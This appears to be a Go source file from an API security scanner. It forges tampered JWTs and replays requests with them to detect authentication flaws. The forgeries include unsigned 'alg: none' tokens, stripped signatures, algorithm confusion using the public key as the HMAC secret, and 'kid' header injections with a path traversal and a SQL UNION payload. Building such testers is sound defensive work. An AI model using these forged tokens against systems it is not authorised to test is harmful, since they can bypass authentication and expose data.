@@ -0,0 +1,271 @@
+package app
+
+import (
+    "fmt"
+    "hash"
+    "time"
+    "errors"
+    "strings"
+    "crypto/hmac"
+    "crypto/sha256"
+    "crypto/sha512"
+    "encoding/json"
+    "encoding/base64"
+)
+
+const (
+    jwtValid   = "jwt-valid"
+    jwtMissing = "jwt-missing"
+)
+
+// JWTTest tampers with a valid token and replays every endpoint and
+// operation with each variant. The token comes from the config, or from
+// a variable the named scenario extracts.
+type JWTTest struct {
+    Token     string                 `json:"token,omitempty"`
+    Scenario  string                 `json:"scenario,omitempty"`
+    Variable  string                 `json:"variable,omitempty"`
+    Header    string                 `json:"header,omitempty"`
+    Secret    string                 `json:"secret,omitempty"`
+    PublicKey string                 `json:"public_key,omitempty"`
+    Claims    map[string]interface{} `json:"claims,omitempty"`
+}
+
+// JWT is a decoded token, kept as maps so unknown fields survive
+// re-encoding.
+type JWT struct {
+    Header    map[string]interface{}
+    Claims    map[string]interface{}
+    Signature string
+    raw       string
+}
+
+// JWTVariant is a tampered token and what the server accepting it means.
+type JWTVariant struct {
+    Name     string
+    Severity string
+    Token    string
+}
+
+func ParseJWT(token string) (*JWT, error) {
+    const (
+        errMalformed = "malformed token"
+    )
+    parts := strings.Split(strings.TrimSpace(token), ".")
+    if len(parts) != 3 {
+        return nil, errors.New(errMalformed)
+    }
+    jwt := &JWT{
+        Signature: parts[2],
+        raw:       parts[0] + "." + parts[1],
+    }
+    if err := decodeSegment(parts[0], &jwt.Header); err != nil {
+        return nil, err
+    }
+    if err := decodeSegment(parts[1], &jwt.Claims); err != nil {
+        return nil, err
+    }
+    return jwt, nil
+}
+
+func decodeSegment(segment string, target *map[string]interface{}) error {
+    bytes, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(segment, "="))
+    if err != nil {
+        return err
+    }
+    return json.Unmarshal(bytes, target)
+}
+
+func encodeSegment(value map[string]interface{}) string {
+    bytes, _ := json.Marshal(value)
+    return base64.RawURLEncoding.EncodeToString(bytes)
+}
+
+// Encode builds a token from the header and claims, signing it with key
+// for HMAC algorithms and leaving the signature empty otherwise.
+func Encode(header map[string]interface{}, claims map[string]interface{}, key []byte) string {
+    unsigned := encodeSegment(header) + "." + encodeSegment(claims)
+    algorithm, _ := header["alg"].(string)
+    var digest func() hash.Hash
+    switch algorithm {
+    case "HS256":
+        digest = sha256.New
+    case "HS384":
+        digest = sha512.New384
+    case "HS512":
+        digest = sha512.New
+    default:
+        return unsigned + "."
+    }
+    mac := hmac.New(digest, key)
+    mac.Write([]byte(unsigned))
+    return unsigned + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil))
+}
+
+func (jwt *JWT) with(header map[string]interface{}, claims map[string]interface{}) (map[string]interface{}, map[string]interface{}) {
+    headerCopy := make(map[string]interface{}, len(jwt.Header))
+    for name, value := range jwt.Header {
+        headerCopy[name] = value
+    }
+    for name, value := range header {
+        headerCopy[name] = value
+    }
+    claimsCopy := make(map[string]interface{}, len(jwt.Claims))
+    for name, value := range jwt.Claims {
+        claimsCopy[name] = value
+    }
+    for name, value := range claims {
+        claimsCopy[name] = value
+    }
+    return headerCopy, claimsCopy
+}
+
+// resign keeps modified claims validly signed when the secret is known,
+// and otherwise reuses the original signature, which a server verifying
+// signatures must reject.
+func (jwt *JWT) resign(claims map[string]interface{}, secret string) string {
+    header, claims := jwt.with(nil, claims)
+    if secret != "" {
+        return Encode(header, claims, []byte(secret))
+    }
+    return encodeSegment(header) + "." + encodeSegment(claims) + "." + jwt.Signature
+}
+
+// Variants lists the classic validation flaws: unsigned and badly signed
+// tokens, algorithm confusion with the public key as HMAC secret, expired
+// and not yet valid claims when the secret signs them, modified claims
+// and injected key ids.
+func (jwt *JWT) Variants(test *JWTTest) []JWTVariant {
+    now := time.Now().Unix()
+    variants := make([]JWTVariant, 0)
+    for _, algorithm := range []string{"none", "None", "NONE"} {
+        header, claims := jwt.with(map[string]interface{}{"alg": algorithm}, nil)
+        variants = append(variants, JWTVariant{Name: "jwt-alg-" + algorithm, Severity: SeverityCritical, Token: Encode(header, claims, nil)})
+    }
+    variants = append(variants,
+        JWTVariant{Name: "jwt-stripped-signature", Severity: SeverityCritical, Token: jwt.raw + "."},
+        JWTVariant{Name: "jwt-invalid-signature", Severity: SeverityCritical, Token: jwt.raw + "." + flipSignature(jwt.Signature)},
+    )
+    if test.PublicKey != "" {
+        header, claims := jwt.with(map[string]interface{}{"alg": "HS256"}, nil)
+        variants = append(variants, JWTVariant{Name: "jwt-alg-confusion", Severity: SeverityCritical, Token: Encode(header, claims, []byte(test.PublicKey))})
+    }
+    // without the secret the expired tokens would carry the original
+    // signature, testing the signature check once more
+    if test.Secret != "" {
+        variants = append(variants,
+            JWTVariant{Name: "jwt-expired", Severity: SeverityHigh, Token: jwt.resign(map[string]interface{}{"exp": now - 3600}, test.Secret)},
+            JWTVariant{Name: "jwt-not-yet-valid", Severity: SeverityHigh, Token: jwt.resign(map[string]interface{}{"nbf": now + 3600, "iat": now + 3600}, test.Secret)},
+        )
+    }
+    // with the secret the modified claims are validly signed, accepting
+    // them is then the expected behavior
+    if test.Secret == "" {
+        for _, name := range sortedKeys(test.Claims) {
+            token := jwt.resign(map[string]interface{}{name: test.Claims[name]}, "")
+            variants = append(variants, JWTVariant{Name: "jwt-claim-" + name, Severity: SeverityCritical, Token: token})
+        }
+    }
+    injections := []struct {
+        name string
+        kid  string
+        key  string
+    }{
+        {"jwt-kid-path-traversal", "../../../../../../../../dev/null", ""},
+        {"jwt-kid-sql-injection", "x' UNION SELECT 'go-tester'-- ", "go-tester"},
+    }
+    for _, injection := range injections {
+        header, claims := jwt.with(map[string]interface{}{"alg": "HS256", "kid": injection.kid}, nil)
+        variants = append(variants, JWTVariant{Name: injection.name, Severity: SeverityCritical, Token: Encode(header, claims, []byte(injection.key))})
+    }
+    return variants
+}
+
+func flipSignature(signature string) string {
+    bytes, err := base64.RawURLEncoding.DecodeString(signature)
+    if err != nil || len(bytes) == 0 {
+        return "AAAA"
+    }
+    bytes[len(bytes)-1] ^= 0xff
+    return base64.RawURLEncoding.EncodeToString(bytes)
+}
+
+// Auth sends the token as a bearer token, or raw in the configured header.
+func (test *JWTTest) Auth(token string) *Auth {
+    if test.Header != "" {
+        return &Auth{Type: AuthAPIKey, Name: test.Header, Key: token}
+    }
+    return &Auth{Type: AuthBearer, Token: token}
+}
+
+// ResolveToken returns the configured token, or runs the scenario that
+// extracts it.
+func (config *Config) ResolveToken(coverage *Coverage) (string, error) {
+    const (
+        errNoScenario = "jwt scenario %s not found"
+        errNoToken    = "jwt scenario %s did not extract %s"
+    )
+    test := config.JWT
+    if test.Token != "" {
+        return test.Token, nil
+    }
+    for _, chain := range config.BuildChains() {
+        if chain.Scenario != test.Scenario {
+            continue
+        }
+        _, variables := chain.Run(config, coverage)
+        if token := variables[test.Variable]; token != "" {
+            return token, nil
+        }
+        return "", fmt.Errorf(errNoToken, test.Scenario, test.Variable)
+    }
+    return "", fmt.Errorf(errNoScenario, test.Scenario)
+}
+
+// BuildJWTExploits replays every exploit as identities carrying the
+// valid token, no token at all and each variant. A variant getting the
+// same response as the valid token is flagged, unless the request goes
+// through without a token too.
+func (config *Config) BuildJWTExploits(exploits []*Exploit, coverage *Coverage) ([]*Exploit, error) {
+    if config.JWT == nil {
+        return nil, nil
+    }
+    token, err := config.ResolveToken(coverage)
+    if err != nil {
+        return nil, err
+    }
+    jwt, err := ParseJWT(token)
+    if err != nil {
+        return nil, err
+    }
+    identities := []Identity{
+        {Name: jwtValid, Level: 1, Auth: config.JWT.Auth(token)},
+        {Name: jwtMissing},
+    }
+    for _, variant := range jwt.Variants(config.JWT) {
+        // the forged token is the finding, it is recorded as sent
+        auth := config.JWT.Auth(variant.Token)
+        auth.Forged = true
+        identities = append(identities, Identity{
+            Name:     variant.Name,
+            Auth:     auth,
+            Tag:      variant.Name,
+            Severity: variant.Severity,
+        })
+    }
+    tampered := make([]*Exploit, 0, len(exploits))
+    for _, exploit := range exploits {
+        replay := *exploit
+        // the identities carry the token, a configured one would get
+        // the request without a token through
+        replay.Headers = CloneHeaders(exploit.Headers)
+        replay.Headers.Del(orDefault(config.JWT.Header, "Authorization"))
+        replay.Operation = ""
+        replay.Expectations = nil
+        replay.Identities = identities
+        replay.Owner = jwtValid
+        replay.Control = jwtMissing
+        tampered = append(tampered, &replay)
+    }
+    return tampered, nil
+}